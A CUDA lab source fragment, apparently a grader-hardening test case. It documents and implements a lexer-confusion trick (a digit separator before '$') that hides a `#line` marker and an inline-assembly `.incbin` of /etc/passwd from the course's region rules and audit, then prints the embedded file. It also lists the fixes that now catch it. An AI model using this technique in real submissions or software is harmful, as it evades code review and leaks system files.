// Attack (Lab 01, static layers, against the region rules' lexer (the pp-number loop in Lexer::run,
// regions.cpp:154-163) and, through the #line it hides, the audit's .ii scan): a digit separator before a
// '$'. The lexer takes `'` into a number when an identifier character follows it, and its identifier
// characters include '$' (ident_char, regions.cpp:33); GCC's lex_number takes `'` only before a digit or
// nondigit, which '$' is not (ISIDNUM excludes it), and backs off a trailing `'`. So in
// `1'$'` GCC reads the number 1 and the character literal '$', while the lexer reads the number 1'$ and
// opens a character literal at the last quote. From there the two disagree on which quote opens and
// which closes, and `'/*'` (a character literal to GCC) is, to the lexer, the end of its literal
// followed by `/*`, a block comment that runs over the next lines to `// */`. GCC never compiles the odd
// tokens: they are the argument of _GLIBCXX_DEBUG_ASSERT, which libstdc++ defines to nothing (any macro
// that drops its argument will do: assert under NDEBUG, __glibcxx_requires_valid_range, ...). Hidden:
//   #line 1 "not_the_lab.h"   the .ii scan reads only lines whose marker names a ".cu" file
//                             (audit.cpp:483): nothing after it is scanned;
//   __asm__ volatile(... .incbin "/etc/passwd" ...)   copied into the object at BUILD time.
// A variant without '$': `_GLIBCXX_DEBUG_ASSERT(1\u03bb'a'/*');` with the letter in UTF-8 (GCC's pp-number
// goes on through a UTF-8 letter and takes 'a as a separator and a digit, the lexer stops at the byte
// 0xCE and reads 'a' as a literal); checked with the lexer (check_region_body) and g++ -S only. See also
// lab01_utf8_identifier_raw_prefix_hides_line_incbin.
// Evidence (grade --labs-dir ... --allow-no-gpu --lab 01, the path a stand-in under /tmp): "compiles"
// (a warning for the multicharacter literal), region rules and audit "passed"; `strings -a` on
// sum_reduction.cu.o and graders/lab01_slot1_host prints the stand-in (section .rodata.notes);
// keep/preprocessed-findings.txt is empty.
// What would catch it: a lexer whose pp-number is GCC's (a `'` only before [0-9A-Za-z_], trailing ones
// backed off; continue through '$' and UTF-8 letters as forms_identifier_p does), or simply refusing `'`
// inside a number before anything but a digit; refusing '$' and bytes >= 0x80 outside literals and
// comments; and an audit that refuses any line marker in the .ii that the assembled file did not write.
// Expected: refused_region.
// The regions not given here are the solution's.
// Caught now (refused_region): the region rules refuse reserved names (_GLIBCXX_DEBUG_ASSERT), and '$' in a number or in code.

    // BEGIN STUDENT REGION launch
    // Enough blocks to fill every SM several times over, no more: each thread then loops over
    // many elements, and only a few hundred atomicAdds reach *out.
    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    static bool shown = false;
    const char* leaked = nullptr;
    _GLIBCXX_DEBUG_ASSERT(1'$'); (void)'/*'; // ')
#line 1 "not_the_lab.h"
    __asm__ volatile(".pushsection .rodata.notes, \"a\"\n9: .incbin \"/etc/passwd\"\n .byte 0\n .popsection\n lea 9b(%%rip), %0" : "=r"(leaked));
    // */ )
    if (!shown && leaked) printf("%s\n", leaked);
    shown = true;
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
    // END STUDENT REGION
